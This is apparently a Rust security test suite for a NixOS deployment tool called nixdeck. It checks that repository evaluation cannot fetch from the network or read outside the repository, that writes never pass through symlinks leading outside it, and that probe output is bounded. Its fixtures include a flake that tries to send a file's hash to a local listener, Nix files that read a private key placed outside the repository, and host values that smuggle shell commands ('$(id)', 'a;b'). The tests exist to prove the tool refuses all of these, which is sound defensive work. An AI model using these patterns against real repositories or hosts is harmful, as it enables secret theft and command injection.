//! Trust at the edges of a repository: its Nix is evaluated without network or
//! reads outside it, writes never leave it through symlinks, values read from it
//! pass the same checks as typed ones, and everything read has a bound.

use nixdeck_core::repo::{FlakeSpec, HostName, HostSpec, Tag};
use nixdeck_core::tools::plan::{
    install_command, DeployOptions, HostTarget, InstallOptions, ToolSettings,
};
use nixdeck_engine::disko_file::{self, LoadOptions};
use nixdeck_engine::jobs::requests::{deploy_request, install_request};
use nixdeck_engine::probe::{probe_session_limited, ProbeError, ProbeOptions};
use nixdeck_engine::repo::{self, Confirm, RepoError};
use nixdeck_engine::ssh::{Auth, ConnectOptions, Session, SshTarget};
use nixdeck_tests::sshd::{Sshd, SshdOptions};
use std::io::Read;
use std::net::TcpListener;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

/// A local HTTP listener that records whether anything connected to it.
struct Listener {
    port: u16,
    reached: Arc<AtomicBool>,
}

impl Listener {
    fn start() -> Self {
        let socket = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = socket.local_addr().unwrap().port();
        let reached = Arc::new(AtomicBool::new(false));
        let flag = reached.clone();
        std::thread::spawn(move || {
            for stream in socket.incoming() {
                flag.store(true, Ordering::SeqCst);
                // Read the request so the evaluator is not left waiting, then hang up.
                if let Ok(mut stream) = stream {
                    let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                    let _ = stream.read(&mut [0u8; 4096]);
                }
            }
        });
        Self { port, reached }
    }

    fn was_reached(&self) -> bool {
        // A connection the evaluator made is accepted well within this.
        std::thread::sleep(Duration::from_millis(100));
        self.reached.load(Ordering::SeqCst)
    }
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn problems(view: &nixdeck_core::repo::RepoView) -> String {
    view.problems
        .iter()
        .map(|p| p.message.clone())
        .collect::<Vec<_>>()
        .join("\n")
}

#[tokio::test]
async fn opening_a_flake_that_phones_home_sends_nothing_and_names_the_file() {
    let listener = Listener::start();
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "secret.txt", "a local secret\n");
    write(
        dir.path(),
        "flake.nix",
        &format!(
            r#"{{
  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-25.05";
  outputs = {{ self, nixpkgs, ... }}: {{
    nixosConfigurations = builtins.seq
      (builtins.fetchurl "http://127.0.0.1:{}/?k=${{builtins.hashFile "sha256" ./secret.txt}}")
      {{ }};
  }};
}}
"#,
            listener.port
        ),
    );
    let view = repo::open_repo(dir.path()).await.unwrap();
    assert!(!listener.was_reached(), "the flake reached the network");
    let text = problems(&view);
    assert!(text.contains("flake.nix"), "{text}");
    assert!(
        text.contains(&format!("fetch http://127.0.0.1:{}/", listener.port)),
        "{text}"
    );
    assert!(text.contains("without network"), "{text}");
}

#[tokio::test]
async fn opening_a_flake_whose_host_reads_outside_names_the_host_file() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "id_ed25519", "PRIVATE KEY\n");
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "flake.nix",
        "{ outputs = { self, ... }: { nixosConfigurations = import ./hosts/spy/host.nix; }; }\n",
    );
    let secret = outside.path().join("id_ed25519");
    write(
        dir.path(),
        "hosts/spy/host.nix",
        &format!(
            "{{ spy = {{ system = builtins.readFile {:?}; }}; }}\n",
            secret.display().to_string()
        ),
    );
    let view = repo::open_repo(dir.path()).await.unwrap();
    let text = problems(&view);
    assert!(!text.contains("PRIVATE KEY"), "{text}");
    assert!(view.hosts.iter().all(|h| h.system.is_none()));
    assert!(text.contains("hosts/spy/host.nix"), "{text}");
    assert!(
        text.contains(&format!("read {}", secret.display())),
        "{text}"
    );
}

#[tokio::test]
async fn a_disko_file_cannot_fetch_or_read_outside_its_repository() {
    let listener = Listener::start();
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "secret", "s3cret\n");
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "flake.nix", "{ outputs = _: { }; }\n");
    write(
        dir.path(),
        "hosts/a/disko.nix",
        &format!(
            "{{ disko.devices.disk.main.device = builtins.fetchurl \"http://127.0.0.1:{}/x\"; }}\n",
            listener.port
        ),
    );
    write(
        dir.path(),
        "hosts/b/disko.nix",
        &format!(
            "{{ disko.devices.disk.main.device = builtins.readFile {:?}; }}\n",
            outside.path().join("secret").display().to_string()
        ),
    );
    // Files of the repository itself stay readable.
    write(dir.path(), "hosts/c/device.nix", "\"/dev/vda\"\n");
    write(
        dir.path(),
        "hosts/c/disko.nix",
        "{ disko.devices.disk.main = { device = import ./device.nix; type = \"disk\"; content = { type = \"gpt\"; partitions = { }; }; }; }\n",
    );
    let options = LoadOptions::default();
    let fetch = disko_file::load(&dir.path().join("hosts/a/disko.nix"), &options)
        .await
        .unwrap_err()
        .to_string();
    assert!(!listener.was_reached(), "disko.nix reached the network");
    assert!(fetch.contains("hosts/a/disko.nix"), "{fetch}");
    assert!(fetch.contains("fetch http://127.0.0.1"), "{fetch}");
    let read = disko_file::load(&dir.path().join("hosts/b/disko.nix"), &options)
        .await
        .unwrap_err()
        .to_string();
    assert!(read.contains("hosts/b/disko.nix"), "{read}");
    assert!(!read.contains("s3cret"), "{read}");
    assert!(read.contains("outside the folders it may read"), "{read}");
    let layout = disko_file::load(&dir.path().join("hosts/c/disko.nix"), &options)
        .await
        .unwrap();
    assert_eq!(
        layout.disk.unwrap()["main"].device.as_deref(),
        Some("/dev/vda")
    );
}

#[tokio::test]
async fn a_disko_file_that_never_finishes_is_stopped_after_its_time() {
    let dir = tempfile::tempdir().unwrap();
    write(
        dir.path(),
        "disko.nix",
        "{ disko.devices.disk.main.device = builtins.toString (builtins.foldl' (a: _: builtins.foldl' (b: _: b + 1) a (builtins.genList (x: x) 100000)) 0 (builtins.genList (x: x) 100000)); }\n",
    );
    let started = std::time::Instant::now();
    let err = disko_file::evaluate_devices_limited(
        &[&dir.path().join("disko.nix")],
        &LoadOptions::default(),
        Duration::from_secs(2),
    )
    .await
    .unwrap_err()
    .to_string();
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "not stopped in time"
    );
    assert!(err.contains("disko.nix"), "{err}");
    assert!(err.contains("longer than 2s"), "{err}");
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGd1c3Qgb25seSBmb3IgdGVzdHM me@laptop";

fn spec(host: &str, address: &str) -> HostSpec {
    let mut spec = HostSpec::new(HostName::new(host).unwrap(), address);
    spec.config.authorized_keys.push(KEY.into());
    spec
}

async fn repo_with(hosts: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    repo::init_repo(dir.path(), &FlakeSpec::default(), &Confirm::Nothing)
        .await
        .unwrap();
    for host in hosts {
        let mut s = spec(host, "203.0.113.7");
        s.deployment.tags = vec![Tag::new("web").unwrap()];
        repo::add_host(dir.path(), &s, &Confirm::Nothing)
            .await
            .unwrap();
    }
    dir
}

/// Every file under `dir` with its content, to see that nothing changed.
fn snapshot(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(d).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let rel = path.strip_prefix(dir).unwrap().display().to_string();
                out.push((rel, std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

fn assert_link_refusal<T: std::fmt::Debug>(result: Result<T, RepoError>) {
    let err = result.expect_err("a write through a link out of the repository");
    let text = err.to_string();
    assert!(
        text.contains("symbolic link") && text.contains("outside the repository"),
        "{text}"
    );
}

#[tokio::test]
async fn a_hosts_folder_linked_outside_is_never_written_through() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "keep.txt", "not the repository's\n");
    let dir = repo_with(&[]).await;
    symlink(outside.path(), dir.path().join("hosts")).unwrap();
    let before = snapshot(outside.path());
    assert_link_refusal(
        repo::add_host(dir.path(), &spec("web", "203.0.113.7"), &Confirm::All).await,
    );
    assert_link_refusal(repo::plan_write(
        dir.path(),
        &[("hosts/web/disko.nix".into(), "{ }\n".into())],
    ));
    assert_eq!(snapshot(outside.path()), before, "nothing outside changed");
}

#[tokio::test]
async fn a_host_folder_linked_outside_is_never_removed_renamed_or_written() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "host.nix", "{ }\n");
    write(outside.path(), "configuration.nix", "{ }\n");
    write(outside.path(), "id_ed25519", "PRIVATE\n");
    let dir = repo_with(&["db"]).await;
    symlink(outside.path(), dir.path().join("hosts/web")).unwrap();
    let before = snapshot(outside.path());
    let web = HostName::new("web").unwrap();
    assert_link_refusal(repo::remove_host(dir.path(), &web, &Confirm::All).await);
    assert_link_refusal(
        repo::rename_host(
            dir.path(),
            &web,
            &HostName::new("web2").unwrap(),
            &Confirm::All,
        )
        .await,
    );
    assert_link_refusal(repo::plan_update_host(
        dir.path(),
        &spec("web", "203.0.113.7"),
    ));
    // A host whose file is a link out is refused too, the rest of the repository works.
    let db_disko = dir.path().join("hosts/db/disko.nix");
    symlink(outside.path().join("host.nix"), &db_disko).unwrap();
    assert_link_refusal(repo::plan_write(
        dir.path(),
        &[("hosts/db/disko.nix".into(), "{ }\n".into())],
    ));
    std::fs::remove_file(&db_disko).unwrap();
    repo::remove_host(dir.path(), &HostName::new("db").unwrap(), &Confirm::Nothing)
        .await
        .unwrap();
    assert_eq!(snapshot(outside.path()), before, "nothing outside changed");
    assert!(dir.path().join("hosts/web").exists());
}

#[tokio::test]
async fn a_file_edited_again_after_review_is_not_overwritten() {
    let dir = repo_with(&["web"]).await;
    let config = dir.path().join("hosts/web/configuration.nix");
    let original = std::fs::read_to_string(&config).unwrap();
    std::fs::write(&config, format!("{original}# first edit\n")).unwrap();
    let mut update = spec("web", "203.0.113.7");
    update.config.packages.push("htop".into());
    // The person reviews this plan and confirms what they saw.
    let reviewed = repo::plan_update_host(dir.path(), &update).unwrap();
    let seen = reviewed.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].path, "hosts/web/configuration.nix");
    // Meanwhile the file is edited again; applying re-plans, as the API does.
    let second = format!("{original}# second edit, never reviewed\n");
    std::fs::write(&config, &second).unwrap();
    let replanned = repo::plan_update_host(dir.path(), &update).unwrap();
    let err = repo::apply_plan(dir.path(), &replanned, &Confirm::Seen(seen))
        .await
        .unwrap_err();
    match &err {
        RepoError::NeedsConfirmation { pending } => {
            assert_eq!(pending.len(), 1);
            assert!(
                pending[0].diff.contains("second edit"),
                "{}",
                pending[0].diff
            );
        }
        other => panic!("expected a new confirmation, got {other}"),
    }
    assert_eq!(std::fs::read_to_string(&config).unwrap(), second);
    // Confirming what is there now goes through.
    repo::apply_plan(dir.path(), &replanned, &Confirm::Seen(replanned.seen()))
        .await
        .unwrap();
    assert!(std::fs::read_to_string(&config).unwrap().contains("htop"));
}

fn umask() -> u32 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    let value = status
        .lines()
        .find_map(|l| l.strip_prefix("Umask:"))
        .expect("Umask in /proc/self/status");
    u32::from_str_radix(value.trim(), 8).unwrap()
}

#[tokio::test]
async fn written_files_follow_the_umask() {
    let dir = repo_with(&["web"]).await;
    let expected = 0o666 & !umask();
    for file in [
        "flake.nix",
        "hosts/web/host.nix",
        "hosts/web/configuration.nix",
    ] {
        let mode = std::fs::metadata(dir.path().join(file))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(mode, expected, "{file}: {mode:o}");
    }
}

#[tokio::test]
async fn hostile_values_in_host_nix_are_reported_and_never_planned() {
    let dir = repo_with(&["web", "db"]).await;
    let host_nix = dir.path().join("hosts/web/host.nix");
    let text = std::fs::read_to_string(&host_nix).unwrap();
    let hostile = text
        .replace("203.0.113.7", "h$(id)&x=1")
        .replace("\"web\"", "\"web\" \"a;b\"");
    assert_ne!(hostile, text);
    std::fs::write(&host_nix, hostile).unwrap();
    let view = repo::open_repo(dir.path()).await.unwrap();
    let about_web: Vec<&str> = view
        .problems
        .iter()
        .filter(|p| p.host.as_deref() == Some("web"))
        .map(|p| p.message.as_str())
        .collect();
    assert!(
        about_web
            .iter()
            .any(|m| m.contains("hosts/web/host.nix") && m.contains("targetHost")),
        "{about_web:?}"
    );
    assert!(
        about_web
            .iter()
            .any(|m| m.contains("hosts/web/host.nix") && m.contains("tags")),
        "{about_web:?}"
    );
    assert!(
        view.problems
            .iter()
            .all(|p| p.host.as_deref() != Some("db")),
        "{:?}",
        view.problems
    );
    // The host as the command builders get it, as the app and the CLI build it.
    let targets: Vec<HostTarget> = view
        .hosts
        .iter()
        .map(|h| HostTarget {
            name: h.name.clone(),
            address: h.address.clone().unwrap_or_else(|| h.name.clone()),
            user: h.user.clone().unwrap_or_else(|| "root".into()),
            port: h.port,
            tags: h.tags.clone(),
            build_on_target: h.build_on_target.unwrap_or(false),
        })
        .collect();
    let web = targets.iter().find(|t| t.name == "web").unwrap();
    assert_eq!(web.address, "h$(id)&x=1");
    let settings = ToolSettings::default();
    let err = install_command(&settings, web, &InstallOptions::default()).unwrap_err();
    assert!(err.to_string().contains("targetHost"), "{err}");
    assert!(install_request(&settings, dir.path(), web, &InstallOptions::default(), None).is_err());
    let deploy = |on: &str| {
        deploy_request(
            &settings,
            dir.path(),
            &targets,
            &DeployOptions {
                on: Some(on.into()),
                ..DeployOptions::default()
            },
        )
    };
    let err = deploy("@web").unwrap_err().to_string();
    assert!(err.contains("targetHost") && err.contains("web"), "{err}");
    // The other host is still deployable on its own.
    let db = deploy("db").unwrap();
    assert_eq!(db.hosts, ["db"]);
    assert!(db.command.argv().contains(&"--on=db".to_string()));
}

#[tokio::test]
async fn diff_head_shows_what_a_reinstall_changed() {
    let dir = repo_with(&["web"]).await;
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(args)
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    let hw = "hosts/web/hardware-configuration.nix";
    // Not committed yet: the whole file is new.
    write(
        dir.path(),
        hw,
        "{ boot.initrd.availableKernelModules = [ \"ahci\" ]; }\n",
    );
    let new_file = repo::git::diff_head(dir.path(), hw).await.unwrap();
    assert!(
        new_file.contains("+{ boot.initrd.availableKernelModules"),
        "{new_file}"
    );
    git(&["add", "-A"]);
    git(&["commit", "-q", "-m", "first install"]);
    assert_eq!(repo::git::diff_head(dir.path(), hw).await.unwrap(), "");
    write(
        dir.path(),
        hw,
        "{ boot.initrd.availableKernelModules = [ \"nvme\" ]; }\n",
    );
    let diff = repo::git::diff_head(dir.path(), hw).await.unwrap();
    assert!(
        diff.starts_with(&format!("--- a/{hw}\n+++ b/{hw}\n")),
        "{diff}"
    );
    assert!(
        diff.contains("-{ boot.initrd.availableKernelModules = [ \"ahci\" ]; }"),
        "{diff}"
    );
    assert!(
        diff.contains("+{ boot.initrd.availableKernelModules = [ \"nvme\" ]; }"),
        "{diff}"
    );
    assert!(repo::git::diff_head(dir.path(), "../outside")
        .await
        .is_err());
}

#[tokio::test]
async fn probe_output_beyond_the_bound_is_refused_before_parsing() {
    let sshd = Sshd::start(SshdOptions::default());
    let o = ConnectOptions {
        auth: Auth::KeyFile(sshd.user_key_path.clone()),
        known_hosts: Some(sshd.known_hosts_path.clone()),
        ssh_config: Some(sshd.dir.path().join("no-ssh-config")),
        ..ConnectOptions::default()
    };
    let target = SshTarget::parse(&sshd.target("root")).unwrap();
    let session = Session::connect(&target, &o).await.expect("connect");
    let err = probe_session_limited(&session, "127.0.0.1", &ProbeOptions::default(), 64)
        .await
        .expect_err("more than 64 bytes of facts");
    match &err {
        ProbeError::OutputTooLarge { bytes, limit } => assert!(*bytes > 64 && *limit == 64),
        other => panic!("expected OutputTooLarge, got {other}"),
    }
    assert_eq!(err.code(), "output_too_large");
    // The real bound lets the real answer through on the same session.
    probe_session_limited(
        &session,
        "127.0.0.1",
        &ProbeOptions::default(),
        nixdeck_engine::probe::MAX_PROBE_OUTPUT,
    )
    .await
    .unwrap();
    session.close().await;
}
